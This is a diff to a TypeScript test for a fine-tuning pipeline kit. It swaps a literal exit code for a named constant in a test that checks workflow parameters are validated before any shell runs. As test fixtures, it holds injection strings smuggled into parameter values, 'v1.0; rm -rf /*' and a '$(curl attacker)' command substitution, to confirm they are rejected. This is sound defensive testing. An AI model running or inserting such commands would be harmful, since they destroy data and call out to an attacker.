@@ -6,6 +6,7 @@ import { FineTuningPipelineSpecSchema, VALUE_PATTERNS } from "../../pipelines/sp
 import { example, exampleInputs } from "../pipeline/fixtures";
 import { renderAll } from "./render-all";
 import { allStrings, shellTexts } from "./shell-text";
+import { EXIT_CODES } from "../../pipelines/contract";
 
 type Obj = Record<string, any>;
 const SCRIPTS = path.join(__dirname, "..", "..", "pipelines", "scripts");
@@ -62,7 +63,7 @@ describe("no value in a script: the kit's rendered output runs no shell", () => 
     for (const task of tasks.slice(1)) expect(task.depends, task.name).toBeTruthy();
   });
 
-  it("the check step, run as Argo would run it, rejects a hostile parameter with exit 2 and accepts the defaults", () => {
+  it("the check step, run as Argo would run it, rejects a hostile parameter with the bad-input exit code and accepts the defaults", () => {
     const t = template("support-assistant", "check-parameters");
     const params = Object.fromEntries(wf("support-assistant").spec.arguments.parameters.map((p: Obj) => [p.name, p.value]));
     const run = (overrides: Record<string, string>) => {
@@ -75,13 +76,13 @@ describe("no value in a script: the kit's rendered output runs no shell", () => 
     const ok = run({});
     expect([ok.status, ok.stdout.trim()]).toEqual([0, "workflow parameters: FTKIT_PARAM_DATASET_URI, FTKIT_PARAM_BASE_MODEL_REVISION valid"]);
     const bad = run({ "base-model-revision": "v1.0; rm -rf /*", "dataset-uri": "s3://bucket/$(curl attacker)" });
-    expect(bad.status).toBe(2);
+    expect(bad.status).toBe(EXIT_CODES.badInput);
     expect(bad.stderr).toBe(
       "invalid workflow parameter dataset-uri: 's3://bucket/$(curl attacker)' is not a valid object-uri (pass s3://bucket/key or gs://bucket/key without spaces, quotes or shell characters)\n" +
         "invalid workflow parameter base-model-revision: 'v1.0; rm -rf /*' is not a valid revision (pass a 40-hex commit sha or a release tag such as v1.0, never a branch or ref)\n",
     );
     const ref = run({ "base-model-revision": "refs/heads/main" });
-    expect([ref.status, ref.stderr]).toEqual([2, "invalid workflow parameter base-model-revision: 'refs/heads/main' is not a valid revision (pass a 40-hex commit sha or a release tag such as v1.0, never a branch or ref)\n"]);
+    expect([ref.status, ref.stderr]).toEqual([EXIT_CODES.badInput, "invalid workflow parameter base-model-revision: 'refs/heads/main' is not a valid revision (pass a 40-hex commit sha or a release tag such as v1.0, never a branch or ref)\n"]);
     const long = run({ "base-model-revision": "a".repeat(5000) });
     expect(long.stderr).toBe(`invalid workflow parameter base-model-revision: '${"a".repeat(79)}... (5000 characters) is not a valid revision (pass a 40-hex commit sha or a release tag such as v1.0, never a branch or ref)\n`);
   });
